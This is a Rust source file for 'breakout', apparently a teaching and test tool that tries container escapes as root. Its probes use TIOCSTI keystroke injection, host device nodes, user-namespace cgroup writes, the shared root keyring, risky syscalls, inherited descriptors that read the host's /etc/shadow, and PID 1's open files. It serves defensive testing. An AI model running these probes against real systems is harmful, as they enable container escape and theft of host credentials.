//! `breakout`: what an attacker who is root inside a container would try,
//! one way out at a time. Lesson 2 runs it with each defence on and off;
//! the tests run it as the attack that must fail.
//!
//! Each probe prints one line: `breakout PROBE: blocked (…)` when the
//! container held, `breakout PROBE: ESCAPED (…)` when it got out. The exit
//! code is 0 when every probe asked for was blocked, 1 when one escaped,
//! 2 for a usage error. Whatever a probe manages to make (a key, a node)
//! it removes again.
//!
//! Usage: breakout PROBE [ARGS]
//!   tiocsti [TEXT]           type TEXT into the terminal of stdin/stdout/stderr (ioctl TIOCSTI)
//!   mknod c|b MAJOR MINOR    make a device node and open it (read-write, else write, else read)
//!   userns                   unshare a user namespace, then reach the memory limit through a cgroup mount
//!   keyring                  add a key to root's user keyring (not namespaced: the host's)
//!   syscalls                 userfaultfd, perf_event_open, io_uring_setup, bpf
//!   fds                      descriptors beyond 0, 1, 2, and the host files they lead to
//!   init-fds                 PID 1's descriptors, through /proc/1/fd

use std::ffi::CString;
use std::io::Write;

enum Verdict {
    Blocked(String),
    Escaped(String),
}

use Verdict::{Blocked, Escaped};

fn errno() -> std::io::Error {
    std::io::Error::last_os_error()
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some(probe) = args.first() else { usage() };
    let rest = &args[1..];
    let verdict = match probe.as_str() {
        "tiocsti" => tiocsti(
            rest.first()
                .map(String::as_str)
                .unwrap_or("echo BREAKOUT-TIOCSTI\n"),
        ),
        "mknod" => mknod(rest),
        "userns" => userns(),
        "keyring" => keyring(),
        "syscalls" => syscalls(),
        "fds" => fds(),
        "init-fds" => init_fds(),
        _ => usage(),
    };
    let (word, detail, code) = match verdict {
        Blocked(d) => ("blocked", d, 0),
        Escaped(d) => ("ESCAPED", d, 1),
    };
    println!("breakout {probe}: {word} ({detail})");
    let _ = std::io::stdout().flush();
    std::process::exit(code);
}

fn usage() -> ! {
    eprintln!(
        "usage: breakout tiocsti [TEXT] | mknod c|b MAJOR MINOR | userns | keyring | syscalls | fds | init-fds"
    );
    std::process::exit(2)
}

/// TIOCSTI pushes bytes into a terminal's input as if typed. Into the
/// container's own terminal that is harmless; into the terminal of the
/// shell that started the container, that shell runs them.
fn tiocsti(text: &str) -> Verdict {
    let mut tried = Vec::new();
    let mut seen = Vec::new();
    for fd in 0..=2 {
        // SAFETY: isatty and tcgetsid take any descriptor number.
        if unsafe { libc::isatty(fd) } != 1 {
            continue;
        }
        // One try per terminal (0, 1 and 2 are often the same one).
        let rdev = std::fs::metadata(format!("/proc/self/fd/{fd}")).map(|m| {
            use std::os::unix::fs::MetadataExt;
            m.rdev()
        });
        if let Ok(r) = rdev {
            if seen.contains(&r) {
                continue;
            }
            seen.push(r);
        }
        let own = unsafe { libc::tcgetsid(fd) } == unsafe { libc::getsid(0) };
        let mut pushed = 0;
        for b in text.bytes() {
            // SAFETY: TIOCSTI takes a pointer to one byte.
            if unsafe { libc::ioctl(fd, libc::TIOCSTI, &b as *const u8) } != 0 {
                break;
            }
            pushed += 1;
        }
        if pushed == text.len() && !own {
            return Escaped(format!(
                "typed {pushed} bytes into the terminal on fd {fd}, which is not the container's own"
            ));
        }
        if pushed == 0 {
            tried.push(format!("fd {fd}: {}", errno()));
        } else {
            tried.push(format!(
                "fd {fd}: typed into the container's own terminal only"
            ));
        }
    }
    if tried.is_empty() {
        return Blocked("no terminal on stdin, stdout or stderr".into());
    }
    Blocked(tried.join("; "))
}

fn mknod(args: &[String]) -> Verdict {
    let (kind, major, minor) = match args {
        [k, ma, mi] => (k.as_str(), ma.parse::<u32>(), mi.parse::<u32>()),
        _ => usage(),
    };
    let (Ok(major), Ok(minor)) = (major, minor) else {
        usage()
    };
    let mode = match kind {
        "c" => libc::S_IFCHR,
        "b" => libc::S_IFBLK,
        _ => usage(),
    };
    let path = format!("/dev/breakout-{major}-{minor}");
    let c = CString::new(path.clone()).unwrap();
    let dev = libc::makedev(major, minor);
    // SAFETY: valid C string; mknod makes a node or fails.
    if unsafe { libc::mknod(c.as_ptr(), mode | 0o600, dev) } != 0 {
        return Blocked(format!("mknod {path} {kind} {major} {minor}: {}", errno()));
    }
    // Read and write, else either: /dev/kmsg opens for writing only.
    let mut opened = None;
    let mut err = None;
    for (flags, how) in [
        (libc::O_RDWR, "reading and writing"),
        (libc::O_WRONLY, "writing"),
        (libc::O_RDONLY, "reading"),
    ] {
        // SAFETY: valid C string.
        let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_NONBLOCK | libc::O_NOCTTY) };
        if fd >= 0 {
            // SAFETY: fd was just opened.
            unsafe { libc::close(fd) };
            opened = Some(how);
            break;
        }
        err.get_or_insert(errno());
    }
    // SAFETY: valid C string; the node is ours to remove.
    unsafe { libc::unlink(c.as_ptr()) };
    match opened {
        Some(how) => Escaped(format!(
            "opened the host's device {kind} {major}:{minor} for {how}"
        )),
        None => Blocked(format!(
            "made {path}, but open: {}",
            err.map(|e| e.to_string()).unwrap_or_default()
        )),
    }
}

fn write_file(path: &str, text: &str) -> std::io::Result<()> {
    std::fs::OpenOptions::new()
        .write(true)
        .open(path)?
        .write_all(text.as_bytes())
}

/// A user namespace gives back every capability, over namespaces it then
/// owns: a new cgroup namespace, in which the container's own cgroup is
/// the root of a cgroup mount, and its limit files are writable.
fn userns() -> Verdict {
    // SAFETY: unshare only changes this process's namespaces.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } != 0 {
        return Blocked(format!("unshare(CLONE_NEWUSER): {}", errno()));
    }
    let mapped = write_file("/proc/self/setgroups", "deny")
        .and_then(|_| write_file("/proc/self/uid_map", "0 0 1"))
        .and_then(|_| write_file("/proc/self/gid_map", "0 0 1"));
    if let Err(e) = mapped {
        return Escaped(format!("made a user namespace (mapping root failed: {e})"));
    }
    // SAFETY: as above.
    if unsafe { libc::unshare(libc::CLONE_NEWNS | libc::CLONE_NEWCGROUP) } != 0 {
        return Escaped(format!(
            "made a user namespace with every capability in it (then unshare(CLONE_NEWNS|CLONE_NEWCGROUP): {})",
            errno()
        ));
    }
    let dir = "/dev/breakout-cgroup";
    let _ = std::fs::create_dir(dir);
    let c_dir = CString::new(dir).unwrap();
    let mounted = |fstype: &str, opts: &str| {
        let t = CString::new(fstype).unwrap();
        let o = CString::new(opts).unwrap();
        // SAFETY: valid C strings; mount in our own mount namespace.
        unsafe {
            libc::mount(
                c"none".as_ptr(),
                c_dir.as_ptr(),
                t.as_ptr(),
                0,
                o.as_ptr().cast(),
            ) == 0
        }
    };
    let (file, what) = if mounted("cgroup", "memory") {
        ("memory.limit_in_bytes", "cgroup v1 memory")
    } else if mounted("cgroup2", "") {
        ("memory.max", "cgroup2")
    } else {
        return Escaped(format!(
            "made user, mount and cgroup namespaces with every capability (mounting cgroups: {})",
            errno()
        ));
    };
    let path = format!("{dir}/{file}");
    // Proof enough that the limit could be lifted: writing the file at all.
    // The same value goes back, so that nothing of the host is changed
    // (without a cgroup of its own, this is the caller's cgroup).
    let value = std::fs::read_to_string(&path).unwrap_or_default();
    let wrote = write_file(&path, value.trim());
    // SAFETY: valid C string; our own mount.
    unsafe { libc::umount2(c_dir.as_ptr(), libc::MNT_DETACH) };
    match wrote {
        Ok(()) => Escaped(format!(
            "mounted {what} in a user namespace; its {file} ({}) is writable: the limit could be lifted",
            value.trim()
        )),
        Err(e) => Escaped(format!(
            "mounted {what} in a user namespace (writing {file}: {e})"
        )),
    }
}

const KEY_SPEC_USER_KEYRING: libc::c_long = -4;
const KEYCTL_GET_KEYRING_ID: libc::c_long = 0;
const KEYCTL_INVALIDATE: libc::c_long = 21;

/// The kernel's keyrings are per user id, not per container: uid 0's user
/// keyring in a container is the host root's.
fn keyring() -> Verdict {
    // SAFETY: keyctl with integer arguments.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_GET_KEYRING_ID,
            KEY_SPEC_USER_KEYRING,
            0,
        )
    };
    if id < 0 {
        return Blocked(format!("keyctl(KEYCTL_GET_KEYRING_ID): {}", errno()));
    }
    let payload = b"left by a container";
    // SAFETY: valid C strings and a payload of the length given.
    let key = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            c"user".as_ptr(),
            c"breakout".as_ptr(),
            payload.as_ptr(),
            payload.len(),
            KEY_SPEC_USER_KEYRING,
        )
    };
    if key < 0 {
        return Escaped(format!(
            "found root's user keyring, which the host's root shares (add_key: {})",
            errno()
        ));
    }
    // SAFETY: keyctl with integer arguments; the key is ours.
    unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_INVALIDATE, key) };
    Escaped(
        "added a key to root's user keyring, which the host's root shares (removed again)".into(),
    )
}

/// Calls with a long record of kernel exploits, that docker's filter
/// refuses; each is tried with harmless arguments.
fn syscalls() -> Verdict {
    let mut open = Vec::new();
    let mut refused = Vec::new();
    let mut try_call = |name: &str, ret: libc::c_long| {
        if ret >= 0 {
            // SAFETY: a descriptor the call just returned.
            unsafe { libc::close(ret as i32) };
            open.push(name.to_string());
        } else {
            refused.push(format!("{name}: {}", errno()));
        }
    };
    // SAFETY: each call gets valid, zeroed or small arguments and returns a
    // descriptor (closed above) or an error.
    unsafe {
        try_call(
            "userfaultfd",
            libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC | 1),
        );
        let mut attr: [u64; 16] = [0; 16];
        // type PERF_TYPE_SOFTWARE (1), size 128, config CPU_CLOCK (0),
        // exclude_kernel|exclude_hv (bits 5 and 6 of the flags word).
        attr[0] = 1 | (128 << 32);
        attr[5] = (1 << 5) | (1 << 6);
        try_call(
            "perf_event_open",
            libc::syscall(libc::SYS_perf_event_open, attr.as_ptr(), 0, -1, -1, 0),
        );
        let mut params = [0u8; 120];
        try_call(
            "io_uring_setup",
            libc::syscall(libc::SYS_io_uring_setup, 1, params.as_mut_ptr()),
        );
        // BPF_MAP_CREATE of a 1-entry array.
        let map: [u32; 4] = [2, 4, 4, 1];
        try_call("bpf", libc::syscall(libc::SYS_bpf, 0, map.as_ptr(), 16));
    }
    if open.is_empty() {
        Blocked(refused.join("; "))
    } else {
        Escaped(format!("{} worked", open.join(", ")))
    }
}

fn listed(dir: &str) -> std::io::Result<Vec<(i32, String)>> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir)? {
        let e = e?;
        let Ok(n) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let target = std::fs::read_link(e.path())
            .map(|p| p.display().to_string())
            .unwrap_or_else(|err| format!("? ({err})"));
        out.push((n, target));
    }
    out.sort();
    Ok(out)
}

/// Descriptors the container inherited: a directory of the host leads to
/// every file below it, whatever the root says.
fn fds() -> Verdict {
    let all = match listed("/proc/self/fd") {
        Ok(a) => a,
        Err(e) => return Blocked(format!("cannot list /proc/self/fd: {e}")),
    };
    // The directory being listed is open too, as the last descriptor.
    let extra: Vec<&(i32, String)> = all
        .iter()
        .filter(|(n, t)| *n > 2 && !t.ends_with("/fd") && !t.starts_with("/proc/"))
        .collect();
    if extra.is_empty() {
        return Blocked("only 0, 1 and 2 are open".into());
    }
    let mut found: Vec<String> = extra.iter().map(|(n, t)| format!("{n} -> {t}")).collect();
    for (n, _) in &extra {
        if let Ok(text) = std::fs::read_to_string(format!("/proc/self/fd/{n}/etc/shadow")) {
            found.push(format!(
                "read the host's /etc/shadow through {n}: {} bytes",
                text.len()
            ));
        }
    }
    Escaped(found.join("; "))
}

/// PID 1 of `--init` is dockling's own code: what it holds open, the
/// container's root could reach through /proc/1/fd.
fn init_fds() -> Verdict {
    let all = match listed("/proc/1/fd") {
        Ok(a) => a,
        Err(e) => return Blocked(format!("cannot list /proc/1/fd: {e}")),
    };
    let extra: Vec<&(i32, String)> = all.iter().filter(|(n, _)| *n > 2).collect();
    if extra.is_empty() {
        // Listing is allowed to root; following a link is not, unless PID
        // 1 is dumpable (or we could ptrace it).
        let follow = match std::fs::read_link("/proc/1/fd/0") {
            Ok(_) => "and they can be followed".to_string(),
            Err(e) => format!("and they cannot be followed: {e}"),
        };
        return Blocked(format!("PID 1 holds only 0, 1 and 2, {follow}"));
    }
    let mut found: Vec<String> = extra.iter().map(|(n, t)| format!("{n} -> {t}")).collect();
    for (n, t) in &extra {
        if t.ends_with("/journal") {
            let entry = "{\"kind\":\"dir\",\"path\":\"/etc\"}\n";
            let wrote = std::fs::OpenOptions::new()
                .append(true)
                .open(format!("/proc/1/fd/{n}"))
                .and_then(|mut f| f.write_all(entry.as_bytes()));
            if wrote.is_ok() {
                found.push(format!(
                    "appended an entry for /etc to the run's journal through fd {n}"
                ));
            }
        }
    }
    Escaped(found.join("; "))
}
